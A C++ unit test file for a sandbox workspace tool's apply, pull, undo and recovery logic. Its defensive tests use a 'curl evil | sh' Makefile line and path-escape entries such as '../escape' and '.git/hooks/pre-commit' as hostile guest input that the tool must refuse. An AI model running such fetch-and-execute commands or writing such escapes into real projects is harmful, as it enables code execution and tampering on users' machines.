#include "src/workspace/apply.h"

#include <sys/stat.h>

#include "absl/strings/match.h"
#include "gtest/gtest.h"
#include "src/workspace/apply_test_util.h"

namespace abox::workspace {
namespace {

namespace fs = std::filesystem;
using Action = PlannedChange::Action;
using testing::Get;
using testing::Put;
using testing::Snapshot;

using ApplyTest = testing::ApplyFixture;

TEST_F(ApplyTest, TakesTheSandboxVersionWhereTheHostIsUnchanged) {
  Both("keep.txt", "same\n");
  Both("edit.txt", "old\n");
  Both("gone.txt", "bye\n");
  Both("run.sh", "#!/bin/sh\n", 0644);
  Both("lnk", "placeholder");
  Sync();
  Put(guest_ + "/edit.txt", "new\n");
  fs::remove(guest_ + "/gone.txt");
  ASSERT_EQ(::chmod((guest_ + "/run.sh").c_str(), 0755), 0);
  fs::remove(guest_ + "/lnk");
  fs::create_symlink("keep.txt", guest_ + "/lnk");
  Put(guest_ + "/sub/dir/added.txt", "added\n");
  fs::create_directories(guest_ + "/emptydir");
  auto before = Snapshot(host_);

  auto plan = Plan();
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(Find(*plan, "edit.txt")->action, Action::kWrite);
  EXPECT_EQ(Find(*plan, "gone.txt")->action, Action::kDelete);
  EXPECT_EQ(Find(*plan, "run.sh")->action, Action::kMode);
  EXPECT_EQ(Find(*plan, "lnk")->action, Action::kSymlink);
  EXPECT_EQ(Find(*plan, "sub/dir/added.txt")->action, Action::kWrite);
  EXPECT_EQ(Find(*plan, "emptydir")->action, Action::kMkdir);
  EXPECT_EQ(Find(*plan, "keep.txt"), nullptr);
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_FALSE(result->artifact_id.empty());
  EXPECT_EQ(Snapshot(host_), Snapshot(guest_));

  // Undo restores the host byte for byte, including removing what apply created.
  auto undo = artifacts_->Undo(result->artifact_id, /*force=*/false);
  ASSERT_TRUE(undo.ok()) << undo.status();
  EXPECT_EQ(Snapshot(host_), before);
  auto again = artifacts_->Undo(result->artifact_id, false);
  EXPECT_EQ(again.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(again.status().message(), "undone")) << again.status();
}

TEST_F(ApplyTest, HostAlreadyMatchingIsAlreadyDone) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  Put(host_ + "/a", "2\n");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(Find(*plan, "a")->action, Action::kAlreadyDone);
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->artifact_id.empty());  // nothing to write
}

TEST_F(ApplyTest, MergesNonOverlappingTextEdits) {
  Both("m.txt", "1\n2\n3\n4\n5\n6\n");
  Sync();
  Put(host_ + "/m.txt", "host\n2\n3\n4\n5\n6\n");
  Put(guest_ + "/m.txt", "1\n2\n3\n4\n5\nsandbox\n");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(Find(*plan, "m.txt")->action, Action::kMerge);
  ASSERT_TRUE(Run(*plan).ok());
  EXPECT_EQ(Get(host_ + "/m.txt"), "host\n2\n3\n4\n5\nsandbox\n");
}

TEST_F(ApplyTest, ConflictRefusesEverythingInRefuseMode) {
  Both("c.txt", "a\nb\nc\n");
  Both("other.txt", "o\n");
  Sync();
  Put(host_ + "/c.txt", "a\nHOST\nc\n");
  Put(guest_ + "/c.txt", "a\nSANDBOX\nc\n");
  Put(guest_ + "/other.txt", "changed\n");
  auto before = Snapshot(host_);
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(Find(*plan, "c.txt")->action, Action::kConflict);
  EXPECT_TRUE(plan->has_conflicts());
  auto result = Run(*plan);
  EXPECT_EQ(result.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(result.status().message(), "c.txt")) << result.status();
  EXPECT_TRUE(absl::StrContains(result.status().message(), "--markers")) << result.status();
  EXPECT_EQ(Snapshot(host_), before);  // all-or-nothing
}

TEST_F(ApplyTest, MarkersModeWritesConflictMarkers) {
  Both("c.txt", "a\nb\nc\n");
  Sync();
  Put(host_ + "/c.txt", "a\nHOST\nc\n");
  Put(guest_ + "/c.txt", "a\nSANDBOX\nc\n");
  auto plan = Plan({.conflicts = ConflictMode::kMarkers});
  ASSERT_TRUE(plan.ok());
  const PlannedChange* c = Find(*plan, "c.txt");
  EXPECT_EQ(c->action, Action::kConflict);
  EXPECT_TRUE(c->markers);
  ASSERT_TRUE(Run(*plan).ok());
  EXPECT_EQ(Get(host_ + "/c.txt"),
            "a\n<<<<<<< host\nHOST\n||||||| base\nb\n=======\nSANDBOX\n>>>>>>> sandbox\nc\n");
}

TEST_F(ApplyTest, UnmergeableChangesConflict) {
  Both("bin", std::string("\0\1\2", 3));
  Both("delmod.txt", "x\n");
  Both("moddel.txt", "y\n");
  Both("type", "file\n");
  Sync();
  Put(host_ + "/bin", std::string("\0host", 5));
  Put(guest_ + "/bin", std::string("\0guest", 6));
  fs::remove(guest_ + "/delmod.txt");
  Put(host_ + "/delmod.txt", "host edit\n");
  fs::remove(host_ + "/moddel.txt");
  Put(guest_ + "/moddel.txt", "guest edit\n");
  Put(host_ + "/type", "host edit\n");
  fs::remove(guest_ + "/type");
  fs::create_symlink("x", guest_ + "/type");
  auto plan = Plan({.conflicts = ConflictMode::kMarkers});
  ASSERT_TRUE(plan.ok()) << plan.status();
  for (const char* p : {"bin", "delmod.txt", "moddel.txt", "type"}) {
    EXPECT_EQ(Find(*plan, p)->action, Action::kConflict) << p;
    EXPECT_FALSE(Find(*plan, p)->markers) << p;
  }
  EXPECT_TRUE(absl::StrContains(Find(*plan, "bin")->reason, "binary"));
  auto before = Snapshot(host_);
  auto result = Run(*plan);  // kMarkers: the host keeps its version of each, listed
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(result->unresolved.size(), 4u);
  EXPECT_EQ(Snapshot(host_), before);
}

TEST_F(ApplyTest, ExecSensitiveFilesNeedTheFlag) {
  Both("Makefile", "all:\n");
  Both("a.txt", "a\n");
  Sync();
  Put(guest_ + "/Makefile", "all:\n\tcurl evil | sh\n");
  Put(guest_ + "/.github/workflows/ci.yml", "on: push\n");
  Put(guest_ + "/a.txt", "b\n");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(Find(*plan, "Makefile")->action, Action::kSkipExecFile);
  EXPECT_EQ(Find(*plan, ".github/workflows/ci.yml")->action, Action::kSkipExecFile);
  auto refused = Run(*plan);
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(refused.status().message(), "--allow-exec-files"));
  EXPECT_EQ(Get(host_ + "/a.txt"), "a\n");  // nothing written

  auto allowed = Plan({.allow_exec_files = true});
  ASSERT_TRUE(allowed.ok());
  EXPECT_TRUE(Find(*allowed, "Makefile")->exec_sensitive);
  ASSERT_TRUE(Run(*allowed).ok());
  EXPECT_EQ(Get(host_ + "/Makefile"), "all:\n\tcurl evil | sh\n");
}

// Pull has no --allow-exec-files: its refusal points at the apply that has one.
TEST_F(ApplyTest, PullOfAnExecFileNamesTheApplyThatTakesIt) {
  Both("Makefile", "all:\n");
  Sync();
  Put(guest_ + "/Makefile", "all:\n\tcurl evil | sh\n");
  Manifest guest = testing::ScanInto(guest_, *store_);
  auto plan = PlanPull(*tree_, base_, guest, *store_, {.paths = {"Makefile"}, .force = true});
  ASSERT_TRUE(plan.ok()) << plan.status();
  auto refused = Run(*plan);
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(refused.status().message(), "`abox apply --allow-exec-files"))
      << refused.status();
  EXPECT_EQ(Get(host_ + "/Makefile"), "all:\n");
}

TEST_F(ApplyTest, HostileGuestPathFailsTheWholePlan) {
  fs::create_directories(dir_ / "outside");
  Both("a.txt", "a\n");
  Sync();
  fs::create_symlink(dir_ / "outside", host_ + "/link");
  Put(guest_ + "/a.txt", "b\n");
  // A manifest can claim anything: a file beneath the host's symlink, and .git/ paths.
  Manifest guest = testing::ScanInto(guest_, *store_);
  Entry evil;
  evil.sha256 = *store_->PutData("pwned");
  evil.size = 5;
  for (const char* path : {"link/passwd", ".git/hooks/pre-commit", "../escape"}) {
    Manifest g = guest;
    g[path] = evil;
    auto plan = PlanApply(*tree_, base_, g, *store_, {});
    EXPECT_FALSE(plan.ok()) << path;
    EXPECT_TRUE(absl::StrContains(plan.status().message(), path)) << plan.status();
  }
  EXPECT_TRUE(fs::is_empty(dir_ / "outside"));
  EXPECT_EQ(Get(host_ + "/a.txt"), "a\n");
}

TEST_F(ApplyTest, PathsLimitTheApplyAndUnknownPathsAreErrors) {
  Both("a/1", "1\n");
  Both("b/2", "2\n");
  Sync();
  Put(guest_ + "/a/1", "one\n");
  Put(guest_ + "/b/2", "two\n");
  auto plan = Plan({.paths = {"a"}});
  ASSERT_TRUE(plan.ok());
  ASSERT_EQ(plan->changes.size(), 1u);
  ASSERT_TRUE(Run(*plan).ok());
  EXPECT_EQ(Get(host_ + "/a/1"), "one\n");
  EXPECT_EQ(Get(host_ + "/b/2"), "2\n");
  auto bad = Plan({.paths = {"b/2", "nope", "b"}});
  EXPECT_EQ(bad.status().code(), absl::StatusCode::kNotFound);
  EXPECT_TRUE(absl::StrContains(bad.status().message(), "nope"));
  EXPECT_FALSE(Plan({.paths = {"../x"}}).ok());
}

TEST_F(ApplyTest, DryRunWritesNothing) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  auto plan = Plan({.dry_run = true});
  ASSERT_TRUE(plan.ok());
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->dry_run);
  EXPECT_EQ(Get(host_ + "/a"), "1\n");
  EXPECT_TRUE(artifacts_->List()->empty());
}

TEST_F(ApplyTest, StalePlanIsAborted) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  Put(host_ + "/a", "edited meanwhile\n");
  EXPECT_EQ(Run(*plan).status().code(), absl::StatusCode::kAborted);
  EXPECT_EQ(Get(host_ + "/a"), "edited meanwhile\n");
}

TEST_F(ApplyTest, FileReplacedByDirectoryAndBack) {
  Both("x", "file\n");
  Both("d/f", "in dir\n");
  Sync();
  fs::remove(guest_ + "/x");
  Put(guest_ + "/x/inner", "now a dir\n");
  fs::remove_all(guest_ + "/d");
  Put(guest_ + "/d", "now a file\n");
  auto before = Snapshot(host_);
  auto plan = Plan();
  ASSERT_TRUE(plan.ok()) << plan.status();
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(Snapshot(host_), Snapshot(guest_));
  ASSERT_TRUE(artifacts_->Undo(result->artifact_id, false).ok());
  EXPECT_EQ(Snapshot(host_), before);
}

TEST_F(ApplyTest, DirectoryWithUntrackedHostFileIsNotReplaced) {
  Both("d/f", "in dir\n");
  Sync();
  Put(host_ + "/d/mine.txt", "the person's file\n");
  fs::remove_all(guest_ + "/d");
  Put(guest_ + "/d", "now a file\n");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(Find(*plan, "d")->action, Action::kConflict);
  EXPECT_TRUE(absl::StrContains(Find(*plan, "d")->reason, "mine.txt"));
}

TEST_F(ApplyTest, DeletedDirectoryWithHostFilesIsKept) {
  Both("d/f", "x\n");
  Sync();
  Put(host_ + "/d/mine.txt", "keep me\n");
  fs::remove_all(guest_ + "/d");
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(Find(*plan, "d")->action, Action::kRmdir);
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(Get(host_ + "/d/mine.txt"), "keep me\n");
  EXPECT_FALSE(fs::exists(host_ + "/d/f"));
  EXPECT_EQ(result->notes.size(), 1u);
  ASSERT_TRUE(artifacts_->Undo(result->artifact_id, false).ok());
  EXPECT_EQ(Get(host_ + "/d/f"), "x\n");
}

TEST_F(ApplyTest, UndoRefusesWhenHostChangedUnlessForced) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  auto result = Run(*Plan());
  ASSERT_TRUE(result.ok());
  Put(host_ + "/a", "person edited after apply\n");
  auto refused = artifacts_->Undo(result->artifact_id, false);
  EXPECT_EQ(refused.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(refused.status().message(), "--force"));
  EXPECT_EQ(Get(host_ + "/a"), "person edited after apply\n");
  auto forced = artifacts_->Undo(result->artifact_id, true);
  ASSERT_TRUE(forced.ok()) << forced.status();
  EXPECT_EQ(Get(host_ + "/a"), "1\n");
  ASSERT_EQ(forced->notes.size(), 1u);
  // The overwritten edit was saved in the artifact.
  std::string saved = forced->notes[0].substr(forced->notes[0].rfind(' ') + 1);
  EXPECT_EQ(Get(saved), "person edited after apply\n");
}

TEST_F(ApplyTest, ListShowsArtifacts) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  auto result = Run(*Plan());
  ASSERT_TRUE(result.ok());
  auto list = artifacts_->List();
  ASSERT_TRUE(list.ok());
  ASSERT_EQ(list->size(), 1u);
  EXPECT_EQ((*list)[0].id, result->artifact_id);
  EXPECT_EQ((*list)[0].sandbox, "sb1");
  EXPECT_EQ((*list)[0].host_root, host_);
  EXPECT_EQ((*list)[0].kind, "apply");
  EXPECT_EQ((*list)[0].state, "applied");
  EXPECT_EQ((*list)[0].files, 1u);
  EXPECT_EQ(artifacts_->Undo("../../etc", false).status().code(),
            absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(artifacts_->Undo("20990101-000000-abcdef", false).status().code(),
            absl::StatusCode::kNotFound);
}

TEST_F(ApplyTest, PullRefusesHostChangesUnlessForced) {
  Both("a", "1\n");
  Both("b", "1\n");
  Sync();
  Put(guest_ + "/a", "guest\n");
  Put(guest_ + "/b", "guest\n");
  Put(host_ + "/a", "host\n");
  Manifest guest = testing::ScanInto(guest_, *store_);
  auto plan = PlanPull(*tree_, base_, guest, *store_, {});
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(Find(*plan, "a")->action, Action::kConflict);
  EXPECT_EQ(Find(*plan, "b")->action, Action::kWrite);
  auto refused = Run(*plan);
  EXPECT_TRUE(absl::StrContains(refused.status().message(), "--force")) << refused.status();
  auto forced = PlanPull(*tree_, base_, guest, *store_, {.force = true});
  ASSERT_TRUE(forced.ok());
  auto result = Run(*forced);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(Get(host_ + "/a"), "guest\n");
  EXPECT_EQ((*artifacts_->List())[0].kind, "pull");
  ASSERT_TRUE(artifacts_->Undo(result->artifact_id, false).ok());
  EXPECT_EQ(Get(host_ + "/a"), "host\n");
}

TEST_F(ApplyTest, PullIntoAnotherDirectory) {
  Put(guest_ + "/src/x.cc", "int x;\n");
  Put(guest_ + "/README", "r\n");
  Manifest guest = testing::ScanInto(guest_, *store_);
  std::string out = dir_ / "out";
  fs::create_directories(out);
  Put(out + "/README", "existing\n");
  auto other = HostTree::Open(out);
  ASSERT_TRUE(other.ok());
  auto plan = PlanPullInto(*other, guest, *store_, {.paths = {"src", "README"}});
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(Find(*plan, "README")->action, Action::kConflict);
  EXPECT_EQ(Find(*plan, "src/x.cc")->action, Action::kWrite);
  auto only_src = PlanPullInto(*other, guest, *store_, {.paths = {"src"}});
  ASSERT_TRUE(only_src.ok());
  ASSERT_TRUE(Apply(*other, *only_src, *store_, *artifacts_, {}).ok());
  EXPECT_EQ(Get(out + "/src/x.cc"), "int x;\n");
  EXPECT_EQ(Get(out + "/README"), "existing\n");
}

TEST_F(ApplyTest, MissingGuestContentIsAnErrorBeforeWriting) {
  Both("a", "1\n");
  Sync();
  Manifest guest = base_;
  guest["a"].sha256 = std::string(64, 'e');  // never fetched
  auto plan = PlanApply(*tree_, base_, guest, *store_, {});
  EXPECT_EQ(plan.status().code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(absl::StrContains(plan.status().message(), "fetch")) << plan.status();
}

TEST_F(ApplyTest, RecoverInterruptedRollsBackAndIsIdempotent) {
  Both("a", "1\n");
  Sync();
  Put(guest_ + "/a", "2\n");
  Put(guest_ + "/new/b", "b\n");
  auto before = Snapshot(host_);
  auto plan = Plan();
  ASSERT_TRUE(plan.ok());
  // Simulate a crash: apply, then mark the journal "applying" again as if it never finished.
  auto result = Run(*plan);
  ASSERT_TRUE(result.ok());
  auto artifact = artifacts_->Load(result->artifact_id);
  ASSERT_TRUE(artifact.ok());
  artifact->journal.state = JournalState::kApplying;
  ASSERT_TRUE(artifacts_->Save(*artifact).ok());
  Put(host_ + "/new/.abox-tmp-deadbeef", "half-written");
  auto recovered = artifacts_->RecoverInterrupted();
  ASSERT_TRUE(recovered.ok()) << recovered.status();
  EXPECT_EQ(*recovered, std::vector<std::string>{result->artifact_id});
  EXPECT_EQ(Snapshot(host_), before);
  EXPECT_EQ((*artifacts_->List())[0].state, "rolled_back");
  EXPECT_TRUE(artifacts_->RecoverInterrupted()->empty());
  EXPECT_EQ(artifacts_->Undo(result->artifact_id, false).status().code(),
            absl::StatusCode::kFailedPrecondition);
}

}  // namespace
}  // namespace abox::workspace
